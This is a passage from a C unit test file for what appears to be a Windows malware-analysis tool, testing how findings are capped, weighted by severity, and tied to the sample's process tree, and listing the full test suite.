        assert_true(kk_finding_add_event(finding, &(kk_event_ref){.index = index}, (int64_t)index));
    }
    assert_int_equal(finding->count, 300);
    assert_int_equal(finding->event_count, KK_FINDING_EVENT_LIMIT);
    for (unsigned i = 0; i < finding->event_count; i++) {
        assert_int_equal(finding->events[i].index, i + 1);
    }
    assert_int_equal(finding->first.index, 1);
    assert_int_equal(finding->last.index, 300);
    assert_int_equal(finding->first_time, 1);
}

static void weights_depend_on_the_tree(void **state)
{
    world *self = *state;
    uint32_t high = add_rule(self, KK_HIGH);
    uint32_t info = add_rule(self, KK_INFO);
    kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
    kk_process_id other = starts(self, self->explorer, "C:\\Windows\\notepad.exe", "n");
    kk_event late = SEE(sample, KK_OP_WRITE_FILE, PATH("C:\\late"));
    kk_finding *in = find(self, high, sample, "C:\\late", &late);
    kk_event early = {.ref = {.index = 0, .process = other}};
    kk_finding *out = find(self, high, other, "C:\\early", &early);
    kk_finding *least = find(self, info, other, "C:\\early", &early);
    find_sample(self, NULL);
    kk_case_weigh(self->analysis);
    assert_true(in->in_tree);
    assert_int_equal(in->severity, KK_HIGH);
    assert_false(out->in_tree);
    assert_int_equal(out->severity, KK_MEDIUM);
    assert_int_equal(least->severity, KK_INFO);
    assert_ptr_equal(kk_case_findings(self->analysis), out);
    assert_ptr_equal(out->next, least);
    assert_ptr_equal(least->next, in);
}

static void a_brokers_finding_for_the_tree_keeps_its_weight(void **state)
{
    world *self = *state;
    uint32_t high = add_rule(self, KK_HIGH);
    kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
    writes(self, sample, DROP);
    starts(self, self->scheduler, DROP, DROP);
    uint64_t create = self->source->event_count - 2;
    kk_event event;
    fake_read(&self->source->source, &(kk_event_ref){.index = create}, &event);
    kk_finding *finding = find(self, high, self->scheduler, "key of its own", &event);
    find_sample(self, "sample.exe");
    kk_case_weigh(self->analysis);
    assert_true(finding->in_tree);
    assert_int_equal(finding->severity, KK_HIGH);
}

static void without_a_sample_nothing_is_lowered(void **state)
{
    world *self = *state;
    uint32_t high = add_rule(self, KK_HIGH);
    kk_event event = SEE(self->explorer, KK_OP_WRITE_FILE, PATH("C:\\x"));
    kk_finding *finding = find(self, high, self->explorer, "x", &event);
    find_sample(self, NULL);
    kk_case_weigh(self->analysis);
    assert_int_equal(finding->severity, KK_HIGH);
}

static void severities_have_names(void **state)
{
    (void)state;
    for (unsigned i = 0; i < KK_SEVERITY_COUNT; i++) {
        assert_int_equal(kk_severity_find(kk_severity_name((kk_severity)i)), i);
    }
    assert_int_equal(kk_severity_find(KK_STR("worse")), KK_SEVERITY_COUNT);
}

#define WORLD_TEST(name) cmocka_unit_test_setup_teardown(name, open_world, close_world)

int main(void)
{
    const struct CMUnitTest tests[] = {
        WORLD_TEST(descendants_and_what_was_dropped),
        WORLD_TEST(what_ran_before_it_was_written_is_not_tied),
        WORLD_TEST(loading_a_dropped_library_ties_but_does_not_spread_from_old_processes),
        WORLD_TEST(a_core_process_that_writes_to_what_the_tree_made_is_tied),
        WORLD_TEST(order_is_by_events_where_times_start_again_at_midnight),
        WORLD_TEST(the_scheduler_starts_what_was_dropped),
        WORLD_TEST(the_scheduler_starts_what_schtasks_registered),
        WORLD_TEST(a_host_with_a_dropped_file_is_tied_by_its_command_line),
        WORLD_TEST(services_start_what_the_tree_registered),
        WORLD_TEST(wmi_starts_what_the_tree_asked_for),
        WORLD_TEST(windows_installer_acts_for_who_waits_for_it),
        WORLD_TEST(brokers_errands_are_the_trees),
        WORLD_TEST(a_service_is_the_trees_by_what_it_runs),
        WORLD_TEST(what_nobody_else_can_have_asked_for_is_the_trees),
        WORLD_TEST(children_are_in_order_of_start),
        WORLD_TEST(a_guess_takes_the_most_consequential),
        WORLD_TEST(nothing_plausible_gives_no_sample),
        WORLD_TEST(a_script_is_a_sample_through_its_host),
        WORLD_TEST(hosts_are_samples_by_what_they_were_told),
        WORLD_TEST(what_began_it_all_is_the_sample),
        WORLD_TEST(without_a_start_what_ran_before_is_the_sample),
        WORLD_TEST(what_a_program_made_is_not_the_sample),
        WORLD_TEST(what_an_archive_tool_unpacked_is_the_sample),
        WORLD_TEST(a_management_agents_shell_is_no_users),
        WORLD_TEST(interpreters_count_by_what_they_run),
        WORLD_TEST(a_sample_started_by_a_sandboxs_agent),
        cmocka_unit_test(folders_of_other_languages_and_versions_are_users_folders),
        cmocka_unit_test(the_sample_is_named_by_pid_path_or_name),
        WORLD_TEST(an_unknown_sample_is_an_error_that_lists_what_there_is),
        WORLD_TEST(equal_activities_fold_in_the_default_view_only),
        WORLD_TEST(findings_fold_by_rule_process_and_key),
        WORLD_TEST(a_finding_keeps_its_first_events),
        WORLD_TEST(weights_depend_on_the_tree),
        WORLD_TEST(a_brokers_finding_for_the_tree_keeps_its_weight),
        WORLD_TEST(without_a_sample_nothing_is_lowered),
        cmocka_unit_test(severities_have_names),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
